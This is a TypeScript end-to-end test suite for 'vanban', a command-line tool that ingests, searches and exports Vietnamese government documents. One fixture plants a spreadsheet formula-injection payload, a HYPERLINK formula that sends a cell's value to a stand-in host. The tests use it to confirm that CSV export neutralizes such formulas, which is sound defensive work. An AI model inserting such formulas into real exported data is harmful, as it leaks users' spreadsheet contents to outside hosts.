import { execFileSync, spawn, spawnSync } from 'node:child_process';
import { cpSync, existsSync, mkdirSync, mkdtempSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Database from 'better-sqlite3';
import { beforeAll, describe, expect, it } from 'vitest';
import { Writable } from 'node:stream';
import { exportTable } from '../../../pipeline/cli/export.js';
import { parseRecord } from '../../../pipeline/core/record.js';
import { Store } from '../../../pipeline/store/index.js';
import { renumberedPlan, SEED_TEXT } from '../../fixtures.js';

/** The command line as its users meet it: a real process, its exit code, stdout and stderr. */

const ROOT = join(import.meta.dirname, '../../..');
const BIN = join(ROOT, 'bin', 'vanban.mjs');
type Env = Record<string, string | undefined>;
const baseEnv = (): Env => ({ ...process.env, VANBAN_LANG: undefined, VANBAN_OCR: undefined });
const run = (...args: string[]) => spawnSync(process.execPath, [BIN, ...args], { cwd: ROOT, encoding: 'utf8', env: baseEnv() });
const runEnv = (env: Env, ...args: string[]) => spawnSync(process.execPath, [BIN, ...args], { cwd: ROOT, encoding: 'utf8', env: { ...baseEnv(), ...env } });
/** A shell pipeline, to see what a command does when its reader goes away. */
const sh = (command: string) => spawnSync('sh', ['-c', command], { cwd: ROOT, encoding: 'utf8', env: baseEnv() });
const tmp = (prefix: string) => mkdtempSync(join(tmpdir(), `vanban-${prefix}-`));

describe('extract', () => {
  it('--json prints a record that satisfies the contract schema, with spans into text', () => {
    const out = execFileSync(process.execPath, [BIN, 'extract', '--json', 'examples/seeds/000_14d7bae0f26e4e26.txt'], { cwd: ROOT, encoding: 'utf8' });
    const record = parseRecord(JSON.parse(out));
    expect(record.schema).toBe('vanban/1');
    const [s, e] = record.number!.span;
    expect(record.text!.slice(s, e)).toBe('234/KH-MTTQ-BTT');
    for (const c of record.corrections) expect(record.text!.slice(...c.span)).toBe(c.to);
    for (const m of record.citations.flatMap((c) => c.mentions)) expect(m[1]).toBeGreaterThan(m[0]);
  });

  it('--no-text omits the text; unreadable input exits 2 with one sentence, in Vietnamese unless asked', () => {
    const out = run('extract', '--json', '--no-text', 'examples/generated/003_cb56f436907ad081.docx');
    expect(out.status).toBe(0);
    expect(JSON.parse(out.stdout).text).toBeUndefined();
    const dir = tmp('cli');
    writeFileSync(join(dir, 'empty.pdf'), '');
    const bad = run('extract', join(dir, 'empty.pdf'));
    expect(bad.status).toBe(2);
    expect(bad.stderr.trim()).toBe(`${join(dir, 'empty.pdf')}: là tệp rỗng (0 byte).`);
    expect(run('extract', join(dir, 'empty.pdf'), '--lang', 'en').stderr.trim()).toBe(`${join(dir, 'empty.pdf')}: is empty (0 bytes).`);
    expect(runEnv({ VANBAN_LANG: 'en' }, 'extract', join(dir, 'empty.pdf')).stderr.trim()).toBe(`${join(dir, 'empty.pdf')}: is empty (0 bytes).`);
    expect(run('frobnicate').status).toBe(2);
  });

  it('prints a readable record in Vietnamese: labels, words instead of codes, dates dd/mm/yyyy, no pages for text', () => {
    const vi = run('extract', 'examples/seeds/000_14d7bae0f26e4e26.txt').stdout;
    expect(vi).toMatch(/^Tệp +.*000_14d7bae0f26e4e26\.txt \(txt\)$/m);
    expect(vi).not.toMatch(/page|trang\)/);
    expect(vi).toMatch(/^Số, ký hiệu +234\/KH-MTTQ-BTT \(Mặt trận\)$/m);
    expect(vi).toMatch(/^Ngày +ngày 24 tháng 5 năm 2022 \(24\/05\/2022\)$/m);
    expect(vi).toMatch(/^ {2}- thực hiện: Chỉ thị 03-CT\/TW \(19\/05\/2021\) — Ban Bí thư/m);
    expect(vi).not.toMatch(/\[implements\]|\[front\]|Issuer|Title/);
    const en = run('extract', 'examples/seeds/000_14d7bae0f26e4e26.txt', '--lang', 'en').stdout;
    expect(en).toMatch(/^Number +234\/KH-MTTQ-BTT \(Front\)$/m);
    expect(en).toMatch(/^ {2}- implements: Chỉ thị 03-CT\/TW \(19\/05\/2021\)/m);
  });
});

describe('options are checked as they are parsed, each refused in one sentence', () => {
  it('numbers, types, years, choices, languages and VANBAN_OCR', () => {
    const refusals: Array<[string[], Env, RegExp]> = [
      [['search', 'x', '--limit', 'abc'], {}, /^--limit nhận một số nguyên dương, không phải "abc"\.$/],
      [['search', 'x', '--type', 'XYZ'], {}, /^--type: không có loại văn bản "XYZ"/],
      [['search', 'x', '--year', '22'], {}, /^--year nhận năm có bốn chữ số, không phải "22"\.$/],
      [['search', 'x', '--year', '22', '--lang', 'en'], {}, /^--year takes a four-digit year, not "22"\.$/],
      [['ingest', 'examples', '--concurrency', '-1'], {}, /^--concurrency nhận một số không âm/],
      [['ingest', 'examples', '--timeout', 'soon'], {}, /^--timeout nhận một số dương/],
      [['export', '--table', 'runs', '--format', 'xlsx'], {}, /^--format nhận một trong các giá trị csv, jsonl, không phải "xlsx"\.$/],
      [['extract', 'x.pdf', '--ocr', 'gpt'], {}, /^--ocr nhận một trong các giá trị tesseract\.js, native, auto, off/],
      [['extract', 'examples/seeds/000_14d7bae0f26e4e26.txt'], { VANBAN_OCR: 'bogus' }, /^VANBAN_OCR=bogus không hợp lệ/],
      [['search', 'x'], { VANBAN_LANG: 'fr' }, /^VANBAN_LANG=fr không hợp lệ; chọn một trong các giá trị vi, en\.$/],
      [['search', 'x', '--lang', 'fr'], {}, /^--lang=fr không hợp lệ/],
    ];
    for (const [args, env, sentence] of refusals) {
      const out = runEnv(env, ...args, ...(args[0] === 'extract' ? [] : ['--db', join(tmp('opts'), 'never.sqlite')]));
      expect(out.status, args.join(' ')).toBe(2);
      expect(out.stderr.trim().split('\n'), args.join(' ')).toHaveLength(1);
      expect(out.stderr.trim(), args.join(' ')).toMatch(sentence);
    }
  });

  it('--version, and --help with examples; export --help lists the tables', () => {
    const version = run('--version');
    expect(version.status).toBe(0);
    expect(version.stdout).toMatch(/^\d+\.\d+\.\d+ \(pipeline \d+\.\d+\.\d+\)$/m);
    const help = run('--help');
    expect(help.stdout).toContain('Ví dụ:');
    expect(help.stdout).toContain('vanban search "chi thi 03"');
    expect(run('--help', '--lang', 'en').stdout).toContain('Examples:');
    const exportHelp = run('export', '--help').stdout;
    for (const table of ['documents', 'citation_edges', 'most_cited', 'tasks_by_agency', 'runs']) expect(exportHelp).toMatch(new RegExp(`^ {2}${table}$`, 'm'));
  });
});

describe('missing paths are usage errors', () => {
  it('ingest of a path that does not exist exits 2 and creates nothing', () => {
    const dir = tmp('missing');
    const db = join(dir, 'never.sqlite');
    const out = run('ingest', join(dir, 'no-such-folder'), '--db', db);
    expect(out.status).toBe(2);
    expect(out.stderr.trim()).toBe(`${join(dir, 'no-such-folder')}: không tồn tại; không có gì được đọc hay tạo ra.`);
    expect(existsSync(db)).toBe(false);
  });

  it('watch of a missing inbox refuses, and does not create it', () => {
    const dir = tmp('inbox');
    const out = run('watch', join(dir, 'inbox'), '--db', join(dir, 'db.sqlite'));
    expect(out.status).toBe(2);
    expect(out.stderr).toMatch(/Hộp thư .*inbox không tồn tại; hãy tạo thư mục đó trước \(mkdir -p/);
    expect(existsSync(join(dir, 'inbox'))).toBe(false);
    expect(existsSync(join(dir, 'db.sqlite'))).toBe(false);
  });
});

describe('a database built by ingest', () => {
  let dir: string;
  let db: string;
  let first: ReturnType<typeof run>;

  beforeAll(() => {
    dir = tmp('db');
    db = join(dir, 'test.sqlite');
    const archive = join(dir, 'archive');
    cpSync(join(ROOT, 'examples'), archive, { recursive: true });
    writeFileSync(join(archive, 'broken.pdf'), '%PDF-1.7\nnot really');
    writeFileSync(join(archive, 'notes.log'), 'not a document');
    symlinkSync(join(archive, 'seeds'), join(archive, 'link-to-seeds'));
    // The same local number in two provinces: two documents, not copies.
    const plan = (province: string) =>
      `ỦY BAN NHÂN DÂN\nTỈNH ${province.toLocaleUpperCase('vi')}\nSố: 12/KH-UBND\n${province}, ngày 05 tháng 3 năm 2024\nKẾ HOẠCH\nTriển khai Chỉ thị số 03-CT/TW ngày 19/5/2021 của Ban Bí thư tại tỉnh ${province}\n` +
      `Thực hiện Chỉ thị số 03-CT/TW ngày 19/5/2021 của Ban Bí thư, Ủy ban nhân dân tỉnh ban hành Kế hoạch như sau:\nI. MỤC ĐÍCH\nTuyên truyền sâu rộng trong cán bộ, đảng viên và nhân dân.\n`;
    writeFileSync(join(archive, 'kh-cao-bang.txt'), plan('Cao Bằng'));
    writeFileSync(join(archive, 'kh-lang-son.txt'), plan('Lạng Sơn'));
    // Text a spreadsheet would take for a formula.
    writeFileSync(
      join(archive, 'formula.txt'),
      SEED_TEXT.replace('234/KH-MTTQ-BTT', '777/KH-MTTQ-BTT').replace(/^Đẩy mạnh tuyên truyền/m, '=HYPERLINK("http://x.example/?leak="&A1,"Bấm vào đây") Đẩy mạnh tuyên truyền'),
    );
    first = run('ingest', archive, '--db', db, '--ocr', 'off', '--verbose', '--log-format', 'text');
  }, 180_000);

  it('stores, reports failures in Vietnamese, counts and names what is not a document', () => {
    expect(first.status).toBe(1);
    expect(first.stdout).toMatch(/^38 tệp: 37 đã lưu \(3 bản quét cần OCR\), 0 không đổi, 1 lỗi, \d+ mục bỏ qua vì không phải văn bản \(--verbose để xem\), 1 liên kết không đi theo trong [\d,]+ giây → /m);
    expect(first.stderr).toMatch(/000_14d7bae0f26e4e26\.scan\.pdf: không có lớp chữ \(bản quét\)/);
    expect(first.stderr).toMatch(/broken\.pdf: là PDF bị hỏng hoặc bị cắt cụt, không mở được\./);
    expect(first.stderr).toMatch(/notes\.log: bỏ qua \(tệp dữ liệu, không phải văn bản\)\./);
    expect(first.stderr).toMatch(/link-to-seeds: là liên kết tượng trưng; vanban không đi theo liên kết \(dùng --follow-links để đi theo\)\./);
    expect(first.stderr).toMatch(/gold\/000_14d7bae0f26e4e26\.json: bỏ qua/);
  });

  it('skips files that failed before and have not changed, says how many, and retries them when asked', () => {
    const archive = join(dir, 'archive');
    const again = run('ingest', archive, '--db', db, '--ocr', 'off', '--lang', 'en');
    expect(again.status).toBe(0);
    expect(again.stdout).toMatch(/^38 files: 0 stored, 37 unchanged, 0 failed, 1 failed before and unchanged, skipped \(--retry-failed retries them\), \d+ ignored/m);
    const retried = run('ingest', join(archive, 'broken.pdf'), '--db', db, '--ocr', 'off', '--retry-failed', '--lang', 'en');
    expect(retried.status).toBe(1);
    expect(retried.stdout).toMatch(/^1 files: 0 stored, 0 unchanged, 1 failed in/m);
    const runs = new Database(db, { readonly: true }).prepare('SELECT status, files_failed, files_failed_unchanged, files_ignored FROM runs ORDER BY id').all();
    expect(runs[1]).toMatchObject({ status: 'finished', files_failed: 0, files_failed_unchanged: 1 });
    expect((runs[0] as { files_ignored: number }).files_ignored).toBeGreaterThan(20);
  });

  it('stops quietly when the reader of its output goes away (EPIPE), for every command', () => {
    const commands = [
      `export --db ${db} --table documents --format jsonl`,
      `export --db ${db} --table documents_flat --format csv --bom`,
      `search dang --db ${db} --limit 200`,
      `search dang --db ${db} --json --limit 200`,
      `show 234/KH-MTTQ-BTT --db ${db} --json`,
      `extract examples/seeds/000_14d7bae0f26e4e26.txt --json`,
      `--help`,
    ];
    for (const command of commands) {
      const out = sh(`"${process.execPath}" "${BIN}" ${command} | head -c 20 > /dev/null`);
      expect(out.stderr, command).toBe('');
    }
  });

  it('show finds a number typed without marks or in any case, lists who cites a number only cited, and lists several matches', () => {
    for (const key of ['360/2025/ND-CP', '360/2025/nđ-cp', '360/2025/nd-cp']) {
      const out = run('show', key, '--db', db);
      expect(out.status, key).toBe(0);
      expect(out.stdout, key).toMatch(/^Số, ký hiệu +360\/2025\/NĐ-CP \(Nhà nước\)$/m);
    }
    const copies = run('show', '234/KH-MTTQ-BTT', '--db', db).stdout;
    expect(copies).toContain('Ban Thường trực Ủy ban Mặt trận Tổ quốc Việt Nam tỉnh Sơn La');
    expect(copies).toMatch(/Các bản sao của văn bản này \(3\):/);
    const cited = run('show', '03-ct/tw', '--db', db);
    expect(cited.status).toBe(0);
    expect(cited.stdout).toMatch(/^03-CT\/TW không có trong .*; \d+ văn bản đã lưu dẫn đến nó:$/m);
    expect(cited.stdout).toMatch(/^ {2}- thực hiện: KH 234\/KH-MTTQ-BTT \(24\/05\/2022\) — Ban Thường trực Ủy ban Mặt trận Tổ quốc Việt Nam tỉnh Sơn La · #\d+$/m);
    const several = run('show', '12/KH-UBND', '--db', db);
    expect(several.status).toBe(0);
    expect(several.stdout).toMatch(/^Số "12\/KH-UBND" khớp 2 văn bản khác nhau/m);
    expect(several.stdout).toMatch(/Kế hoạch 12\/KH-UBND · 05\/03\/2024 — Ủy ban nhân dân tỉnh Cao Bằng {2}#\d+/);
    expect(several.stdout).toMatch(/Kế hoạch 12\/KH-UBND · 05\/03\/2024 — Ủy ban nhân dân tỉnh Lạng Sơn {2}#\d+/);
    const none = run('show', '999/XYZ', '--db', db, '--lang', 'en');
    expect(none.status).toBe(1);
    expect(none.stderr.trim()).toMatch(/^No stored document has the id or number "999\/XYZ" in .*, and none cites that number\.$/);
  });

  it('search ranks the named directive, its implementers and phrases first, labels hits by number and title', () => {
    const hits = JSON.parse(run('search', 'chi thi 03', '--db', db, '--json').stdout) as Array<{ number: string | null; match: string; title: string }>;
    const implementers = hits.filter((h) => h.match === 'implements');
    expect(implementers.length).toBeGreaterThanOrEqual(7);
    expect(hits.slice(0, implementers.length).every((h) => h.match === 'implements')).toBe(true);
    expect(implementers.map((h) => h.number)).toEqual(expect.arrayContaining(['234/KH-MTTQ-BTT', '12/KH-UBND']));
    // Typed as a number, the same documents come first.
    const byNumber = JSON.parse(run('search', '03-CT/TW', '--db', db, '--json').stdout) as Array<{ match: string }>;
    expect(byNumber[0]!.match).toBe('implements');
    const text = run('search', 'chi thi 03', '--db', db).stdout;
    expect(text).toMatch(/^1\. Kế hoạch [^\n]+ {2}#\d+\n {3}\S/);
    expect(text).not.toMatch(/^#\d+ /m);
    // A phrase outranks the same words scattered.
    const phrase = JSON.parse(run('search', 'uu tien dung hang viet nam', '--db', db, '--json').stdout) as Array<{ match: string }>;
    expect(phrase[0]!.match).toBe('phrase');
  });

  it('search takes OR, NOT and "phrases", refuses them misplaced, and bounds the query', () => {
    const search = (...args: string[]) => JSON.parse(run('search', ...args, '--db', db, '--json', '--limit', '100').stdout) as Array<{ number: string | null }>;
    const both = search('"Cao Bằng" OR "Lạng Sơn"').map((h) => h.number);
    expect(both).toEqual(expect.arrayContaining(['12/KH-UBND']));
    const notLangSon = search('"12/KH-UBND" NOT "Lạng Sơn"');
    expect(notLangSon).toHaveLength(1);
    for (const bad of ['OR dang', 'dang NOT', '"unclosed phrase']) {
      const out = run('search', bad, '--db', db);
      expect(out.status, bad).toBe(2);
      expect(out.stderr.trim().split('\n'), bad).toHaveLength(1);
    }
    const started = Date.now();
    const huge = run('search', 'chi thi 03 '.repeat(4100), '--db', db);
    expect(huge.status).toBe(2);
    expect(huge.stderr).toMatch(/^Câu tìm kiếm dài 45100 ký tự, quá giới hạn 500 ký tự; hãy rút gọn\.$/m);
    const wordy = run('search', Array.from({ length: 70 }, (_, i) => `w${i}`).join(' '), '--db', db);
    expect(wordy.stderr).toMatch(/có 70 từ, quá giới hạn 64 từ/);
    expect(Date.now() - started).toBeLessThan(15_000);
  });

  it('exports an empty table with its header, and neutralizes formulas in every table (OWASP), --bom included', async () => {
    const empty = run('export', '--db', db, '--table', 'ocr_pages');
    expect(empty.stdout).toBe('document_id,page,confidence,dpi,words,ms,status\n');
    expect(run('export', '--db', db, '--table', 'ocr_pages', '--bom').stdout).toBe('\uFEFFdocument_id,page,confidence,dpi,words,ms,status\n');
    // Every exportable table, through the export code the CLI runs (one process per table would take minutes here).
    const store = new Store(db);
    const tables = store.exportableNames();
    expect(tables).toEqual(run('export', '--help').stdout.match(/^ {2}(\w+)$/gm)!.map((l) => l.trim()));
    let formulaCells = 0;
    for (const table of tables) {
      for (const bom of [false, true]) {
        let csv = '';
        await exportTable(store, table, 'csv', new Writable({ write: (chunk: Buffer, _encoding, done) => ((csv += chunk.toString()), done()) }), bom);
        expect(csv.startsWith('\uFEFF'), table).toBe(bom);
        // Checked all at once: an expect() per cell (tens of thousands) made this the suite's slowest test.
        const cells = parseCsv(csv.replace(/^\uFEFF/, '')).flat();
        const shown = (cell: CsvCell) => `${table}: ${cell.value.slice(0, 60)}`;
        expect(cells.filter((cell) => /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell.value)).map(shown)).toEqual([]);
        const neutralized = cells.filter((cell) => cell.value.startsWith("'"));
        formulaCells += neutralized.length;
        expect(neutralized.filter((cell) => !cell.quoted).map(shown)).toEqual([]);
      }
    }
    store.close();
    expect(formulaCells).toBeGreaterThan(0);
    const flat = run('export', '--db', db, '--table', 'documents_flat', '--bom').stdout;
    expect(flat).toContain(`"'=HYPERLINK(""http://x.example/?leak=""&A1,""Bấm vào đây"") Đẩy mạnh`);
    // JSON Lines are data for programs: written as stored.
    expect(run('export', '--db', db, '--table', 'documents_flat', '--format', 'jsonl').stdout).toContain('"title":"=HYPERLINK(');
  });

  it('stores folded names for SQL: LIKE and = find names typed without marks', () => {
    const sql = new Database(db, { readonly: true });
    const one = (query: string) => sql.prepare(query).all() as Array<Record<string, unknown>>;
    expect(one("SELECT signer_name FROM documents WHERE signer_folded LIKE '%ho duc%'").map((r) => r.signer_name)).toContain('Hồ Đức Phớc');
    expect(one("SELECT DISTINCT province FROM documents WHERE province_folded = 'thai nguyen'")).toEqual([{ province: 'Thái Nguyên' }]);
    expect(one("SELECT count(*) AS n FROM documents_flat WHERE issuer_folded LIKE '%so thong tin va truyen thong%'")[0]!.n).toBeGreaterThan(0);
    expect(one("SELECT DISTINCT agency FROM tasks_by_agency WHERE agency_folded LIKE '%so thong tin va truyen thong tinh thai nguyen%'")).toEqual([
      { agency: 'Sở Thông tin và Truyền thông tỉnh Thái Nguyên' },
    ]);
    // Lists are JSON arrays; a deadline is a date or a text, never both in one column.
    const variants = one('SELECT variants FROM agency_directory').map((r) => JSON.parse(String(r.variants)) as unknown);
    expect(variants.every(Array.isArray)).toBe(true);
    const deadlines = one('SELECT deadline_date, deadline_text FROM tasks_by_agency WHERE deadline_date IS NOT NULL OR deadline_text IS NOT NULL');
    expect(deadlines.length).toBeGreaterThan(0);
    for (const d of deadlines) {
      if (d.deadline_date !== null) expect(d.deadline_date).toMatch(/^\d{4}-\d{2}-\d{2}$/);
      expect(d.deadline_date === null || d.deadline_text === null).toBe(true);
    }
  });
});

describe('watch', () => {
  it("writes a rejected file's note in Vietnamese: the reason and what to do", async () => {
    const dir = tmp('watch-vi');
    const inbox = join(dir, 'inbox');
    mkdirSync(inbox);
    writeFileSync(join(inbox, 'rỗng.pdf'), '');
    const child = spawn(process.execPath, [BIN, 'watch', inbox, '--db', join(dir, 'db.sqlite'), '--settle', '0.2', '--concurrency', '0', '--log-format', 'json'], {
      cwd: ROOT,
      env: { ...baseEnv() },
    });
    const note = join(inbox, 'rejected', 'rỗng.pdf.error.txt');
    for (let i = 0; i < 200 && !existsSync(note); i++) await new Promise((resolve) => setTimeout(resolve, 100));
    child.kill('SIGTERM');
    await new Promise((resolve) => child.on('close', resolve));
    expect(readFileSync(note, 'utf8')).toBe('rỗng.pdf: là tệp rỗng (0 byte).\nCần làm gì: có thể việc chép tệp bị lỗi; hãy chép lại tệp vào hộp thư.\n');
  });
});

describe('Ctrl-C during ingest', () => {
  it('finishes the documents in hand, writes the summary, marks the run interrupted; the next run carries on', async () => {
    const dir = tmp('sigint');
    const archive = join(dir, 'archive');
    mkdirSync(archive);
    for (let n = 1; n <= 40; n++) writeFileSync(join(archive, `kh-${String(n).padStart(2, '0')}.txt`), renumberedPlan(1000 + n));
    const db = join(dir, 'db.sqlite');
    const child = spawn(process.execPath, [BIN, 'ingest', archive, '--db', db, '--ocr', 'off', '--concurrency', '1', '--log-format', 'json'], {
      cwd: ROOT,
      env: { ...baseEnv() },
    });
    let stdout = '';
    let stderr = '';
    let signalled = false;
    child.stdout.on('data', (b: Buffer) => (stdout += b.toString()));
    child.stderr.on('data', (b: Buffer) => {
      stderr += b.toString();
      if (!signalled && (stderr.match(/"outcome":"stored"/g)?.length ?? 0) >= 3) {
        signalled = true;
        child.kill('SIGINT');
      }
    });
    const code = await new Promise<number | null>((resolve) => child.on('close', resolve));
    expect(code).toBe(130);
    const summary = /^(\d+) tệp: (\d+) đã lưu, 0 không đổi, 0 lỗi/m.exec(stdout);
    expect(summary, stdout).not.toBeNull();
    const stored = Number(summary![2]);
    expect(stored).toBeGreaterThanOrEqual(3);
    expect(stored).toBeLessThan(40);
    expect(stderr).toMatch(/"msg":"Đã dừng theo yêu cầu \(SIGINT\)/);
    const sql = new Database(db, { readonly: true });
    expect(sql.prepare('SELECT status, files_stored FROM runs').all()).toEqual([{ status: 'interrupted', files_stored: stored }]);
    expect((sql.prepare('SELECT count(*) AS n FROM documents').get() as { n: number }).n).toBe(stored);
    sql.close();
    // The JSON log: ISO times, processing time apart from the wait for a thread.
    const line = JSON.parse(stderr.split('\n').find((l) => l.includes('"outcome":"stored"'))!) as Record<string, unknown>;
    expect(line.time).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/);
    expect(typeof line.ms).toBe('number');
    expect(typeof line.waitMs).toBe('number');
    const rest = run('ingest', archive, '--db', db, '--ocr', 'off', '--lang', 'en');
    expect(rest.stdout).toMatch(new RegExp(`^40 files: ${40 - stored} stored, ${stored} unchanged, 0 failed`, 'm'));
  });
});

interface CsvCell {
  value: string;
  quoted: boolean;
}

/** RFC 4180 CSV, keeping whether each cell was quoted. */
function parseCsv(text: string): CsvCell[][] {
  const rows: CsvCell[][] = [];
  let row: CsvCell[] = [];
  let i = 0;
  while (i < text.length) {
    let value = '';
    let quoted = false;
    if (text[i] === '"') {
      quoted = true;
      i++;
      for (;;) {
        if (text[i] === '"' && text[i + 1] === '"') {
          value += '"';
          i += 2;
        } else if (text[i] === '"') {
          i++;
          break;
        } else value += text[i++];
      }
    } else {
      while (i < text.length && text[i] !== ',' && text[i] !== '\n') value += text[i++];
    }
    row.push({ value, quoted });
    if (text[i] === ',') i++;
    else {
      rows.push(row);
      row = [];
      i++;
    }
  }
  return rows;
}
